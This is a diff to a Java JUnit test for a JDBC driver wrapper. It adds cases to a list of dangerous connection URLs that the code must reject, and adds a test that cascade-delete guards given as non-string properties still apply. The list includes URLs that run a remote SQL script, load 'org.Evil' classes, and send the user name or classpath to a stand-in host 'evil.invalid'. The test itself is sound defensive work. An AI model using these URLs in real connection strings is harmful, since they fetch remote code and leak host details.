@@ -4,11 +4,15 @@ import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatCode;
 import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
+import java.sql.Connection;
 import java.sql.DriverManager;
 import java.sql.SQLException;
 import java.sql.SQLFeatureNotSupportedException;
+import java.sql.Statement;
+import java.util.List;
 import java.util.Map;
 import java.util.Properties;
+import org.assertj.core.api.ThrowableAssert.ThrowingCallable;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
@@ -78,7 +82,8 @@ class GivenOptionsTest {
             "h2:mem:x;INIT=RUNSCRIPT FROM 'http://h/x.sql'", "h2:mem:x;MODE=MySQL;init =SELECT 1", "h2:./x;MODE=a\\;INIT=SELECT 1",
             "p6spy:h2:mem:x;JAVA_OBJECT_SERIALIZER='org.Evil'", "h2:mem:x;DATABASE_EVENT_LISTENER='org.Evil'",
             "h2:./x;TRACE_LEVEL_FILE=3", "h2:./x;AUTO_SERVER=TRUE",
-            "hsqldb:mem:x;crypt_provider=org.Evil", "hsqldb:file:x;hsqldb.applog=3"
+            "hsqldb:mem:x;crypt_provider=org.Evil", "hsqldb:file:x;hsqldb.applog=3", "hsqldb:hsql://${user.name}.evil.invalid/",
+            "otel:hsqldb:mem:${java.class.path}", "hsqldb:mem:x;user=${user.name}"
     })
     void noUrlHasADriverDoMoreThanLogIn(String url) {
         assertThatThrownBy(() -> new GivenOptions(Map.of(), Map.of()).checkDatabase("jdbc:" + url))
@@ -204,5 +209,34 @@ class GivenOptionsTest {
                         .connect("jdbc:cascade:sqlite::memory:?cascade.protect=" + "a,".repeat(40_000), null))
                 .isInstanceOf(SQLException.class)
                 .hasMessage("cascade.protect is longer than 65536 characters in the URL; let the application set the option");
+    }
+
+    /** {@link Properties#getProperty} finds no value that is not a text, and a guard must not be lost by that. */
+    @Test
+    void aGuardThatIsGivenAsANumberCounts() throws SQLException {
+        Properties info = new Properties();
+        info.put("cascade.maxRows", 1);
+        info.put("cascade.enabled", true);
+        info.put("cascade.protect", new StringBuilder("audit"));
+        try (Connection connection = new CascadeDriver().connect("jdbc:cascade:sqlite::memory:?cascade.enabled=false", info);
+                Statement statement = connection.createStatement()) {
+            statement.execute("CREATE TABLE p (id INTEGER PRIMARY KEY)");
+            statement.execute("CREATE TABLE audit (id INTEGER PRIMARY KEY, p REFERENCES p ON DELETE CASCADE)");
+            statement.execute("CREATE TABLE free (id INTEGER PRIMARY KEY)");
+            statement.execute("INSERT INTO p VALUES (1)");
+            statement.execute("INSERT INTO audit VALUES (1, 1)");
+            statement.execute("INSERT INTO free VALUES (1), (2)");
+
+            assertThatThrownBy(() -> statement.execute("DELETE FROM p")).hasMessageContaining("cascade.protect");
+            assertThatThrownBy(() -> statement.execute("DELETE FROM free")).hasMessageContaining("cascade.maxRows");
+        }
+        for (Object value : List.of(List.of("audit"), new Object[] {"audit"}, 'a')) {
+            info.put("cascade.protect", value);
+            for (ThrowingCallable use : List.<ThrowingCallable>of(
+                    () -> new CascadeDriver().connect("jdbc:cascade:sqlite::memory:", info),
+                    () -> new CascadeDriver().getPropertyInfo("jdbc:cascade:sqlite::memory:", info))) {
+                assertThatThrownBy(use).isInstanceOf(SQLException.class).hasMessageContaining("give it as a text");
+            }
+        }
     }
 }
